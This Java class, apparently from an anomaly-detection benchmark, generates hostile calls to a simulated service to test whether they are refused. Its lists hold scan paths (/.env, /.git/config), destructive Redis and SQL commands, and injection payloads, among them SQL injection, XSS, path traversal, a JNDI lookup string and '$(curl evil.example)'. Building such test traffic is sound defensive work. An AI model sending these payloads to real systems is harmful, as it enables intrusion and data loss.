package io.bulwark.benchmarks.learning;

import io.bulwark.benchmarks.learning.Template.Piece;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.random.RandomGenerator;

/** Calls that no made-up service is meant to get, of several sorts. */
final class Hostile {
    /** What is wrong with a call. */
    enum Sort {
        WRONG_METHOD,
        UNKNOWN_PATH,
        UNKNOWN_PEER,
        OTHER_PEER,
        UNKNOWN_COMMAND,
        UNKNOWN_PARAMETER,
        TAMPERED_PARAMETER,
        UNKNOWN_IN_CONTENT,
        TAMPERED_CONTENT,
        TAMPERED_PATH,
        /** Told of, but no part of what must be refused: text that people write may hold what attacks look like. */
        TAMPERED_PROSE;

        boolean counts() {
            return this != TAMPERED_PROSE;
        }
    }

    private static final List<String> METHODS = List.of("GET", "POST", "PUT", "DELETE", "PATCH", "TRACE");
    private static final List<String> SCANS = List.of(
            "/.env",
            "/.git/config",
            "/wp-login.php",
            "/admin/console",
            "/actuator/env",
            "/server-status",
            "/phpmyadmin/index.php",
            "/api/v1/debug/pprof",
            "/cgi-bin/test.sh",
            "/backup.zip",
            "/solr/admin/info",
            "/login.action");
    private static final List<String> PAYLOADS = List.of(
            "1' OR '1'='1",
            "1;DROP TABLE users",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "${jndi:ldap://x/a}",
            "1 UNION SELECT password FROM users--",
            "|id",
            "`id`",
            "{{7*7}}",
            "%00",
            "\"><img src=x>",
            "$(curl evil.example)");
    private static final List<String> COMMANDS =
            List.of("FLUSHALL", "CONFIG", "KEYS", "EVAL", "SLAVEOF", "DEBUG", "SHUTDOWN");
    private static final List<String> STATEMENTS = List.of("DROP", "ALTER", "GRANT", "CREATE", "TRUNCATE");

    private final Service service;
    private final RandomGenerator chance;

    Hostile(Service service, RandomGenerator chance) {
        this.service = service;
        this.chance = chance;
    }

    /** A call of one sort; empty where the service has no room for it. */
    Optional<Call> make(Sort sort, double progress) {
        var template = service.pick(chance, progress);
        var call = service.legitimate(template, chance, progress);
        return switch (sort) {
            case WRONG_METHOD -> wrongMethod(call);
            case UNKNOWN_PATH -> unknownPath(call);
            case UNKNOWN_PEER -> Optional.of(call.by("rogue/pod-" + chance.nextInt(5)));
            case OTHER_PEER -> otherPeer(template, call);
            case UNKNOWN_COMMAND -> unknownCommand(call);
            case UNKNOWN_PARAMETER -> http(call).map(c -> c.withQuery(withUnknown(c.query())));
            case TAMPERED_PARAMETER -> tampered(template.parameters()).map(call::withQuery);
            case UNKNOWN_IN_CONTENT ->
                call.content().isEmpty()
                        ? Optional.empty()
                        : Optional.of(call.withContent(withUnknown(call.content())));
            case TAMPERED_CONTENT -> tampered(prose(template.contents(), false)).map(call::withContent);
            case TAMPERED_PATH -> tamperedPath(template, call);
            case TAMPERED_PROSE -> tampered(prose(template.contents(), true)).map(call::withContent);
        };
    }

    private Optional<Call> http(Call call) {
        return call.protocol().equals("http") ? Optional.of(call) : Optional.empty();
    }

    private Optional<Call> wrongMethod(Call call) {
        if (!call.protocol().equals("http")) {
            return Optional.empty();
        }
        var other = call.withMethod(pick(METHODS));
        return service.knows("http", other.method(), other.path()) ? Optional.empty() : Optional.of(other);
    }

    private Optional<Call> unknownPath(Call call) {
        if (call.protocol().equals("mysql")) {
            return Optional.of(call.withPath("secrets_" + Words.at(chance.nextInt(900))));
        }
        if (call.protocol().equals("grpc")) {
            return Optional.of(call.withPath("/shop.v1.Admin" + Words.at(chance.nextInt(900)) + "/Run"));
        }
        if (call.protocol().equals("redis")) {
            return Optional.of(call.withPath(Words.at(chance.nextInt(900)) + "_secret:" + chance.nextInt(99)));
        }
        var path = switch (chance.nextInt(3)) {
            case 0 -> pick(SCANS);
            case 1 -> call.path() + "/" + Words.at(chance.nextInt(900));
            default -> call.path().replaceFirst("[a-z]+", Words.at(chance.nextInt(900)) + "x");
        };
        return service.knows("http", path) ? Optional.empty() : Optional.of(call.withPath(path));
    }

    /** A peer of the service that never makes this call, nor any other on the same resource. */
    private Optional<Call> otherPeer(Template template, Call call) {
        var all = service.templates().stream()
                .flatMap(each -> each.peers().stream())
                .distinct()
                .toList();
        var other = pick(all);
        boolean meant = service.templates().stream()
                .anyMatch(each ->
                        each.shape().equals(template.shape()) && each.peers().contains(other));
        return meant || service.knowsBy(other, call) ? Optional.empty() : Optional.of(call.by(other));
    }

    private Optional<Call> unknownCommand(Call call) {
        return switch (call.protocol()) {
            case "redis" -> Optional.of(call.withMethod(pick(COMMANDS)));
            case "mysql" -> Optional.of(call.withMethod(pick(STATEMENTS)));
            default -> Optional.empty();
        };
    }

    private String withUnknown(String parameters) {
        return (parameters.isEmpty() ? "" : parameters + "&")
                + pick(List.of("debug", "admin", "cmd", "redirect", "__proto__")) + "=1";
    }

    /** Those parameters that are text which people write, or the others. */
    private static Map<String, Maker> prose(Map<String, Maker> contents, boolean free) {
        var some = new TreeMap<>(contents);
        some.values().removeIf(maker -> maker.free() != free);
        return some;
    }

    /** One parameter with an attack in it. */
    private Optional<String> tampered(Map<String, Maker> parameters) {
        if (parameters.isEmpty()) {
            return Optional.empty();
        }
        var name = pick(List.copyOf(parameters.keySet()));
        var payload = pick(PAYLOADS);
        return Optional.of(name + "="
                + payload.replace("%", "%25")
                        .replace("&", "%26")
                        .replace("+", "%2B")
                        .replace(" ", "%20"));
    }

    private Optional<Call> tamperedPath(Template template, Call call) {
        if (!template.varies() || !call.protocol().equals("http")) {
            return Optional.empty();
        }
        var parts = new ArrayList<>(List.of(call.path().split("/", -1)));
        for (int i = 0; i < template.pieces().size(); i++) {
            if (template.pieces().get(i) instanceof Piece.Varying(var maker) && !maker.free()) {
                parts.set(i + 1, pick(PAYLOADS).replace("/", ""));
            }
        }
        return Optional.of(call.withPath(String.join("/", parts)));
    }

    private <T> T pick(List<T> of) {
        return of.get(chance.nextInt(of.size()));
    }

    /** Noise that comes while a service is learned: scans and mistakes, which fail. */
    Call noise() {
        var call = service.legitimate(chance, 1);
        var failing = call.protocol().equals("http") && chance.nextBoolean()
                ? call.withPath(pick(SCANS) + (chance.nextBoolean() ? "" : "/" + Words.at(chance.nextInt(100_000))))
                : unknownPath(call).orElse(call.withMethod("TRACE"));
        return new Call(
                chance.nextBoolean() ? "198.51.100.0/24" : failing.peer(),
                failing.port(),
                failing.protocol(),
                failing.method(),
                failing.path(),
                failing.query(),
                failing.content(),
                false);
    }
}
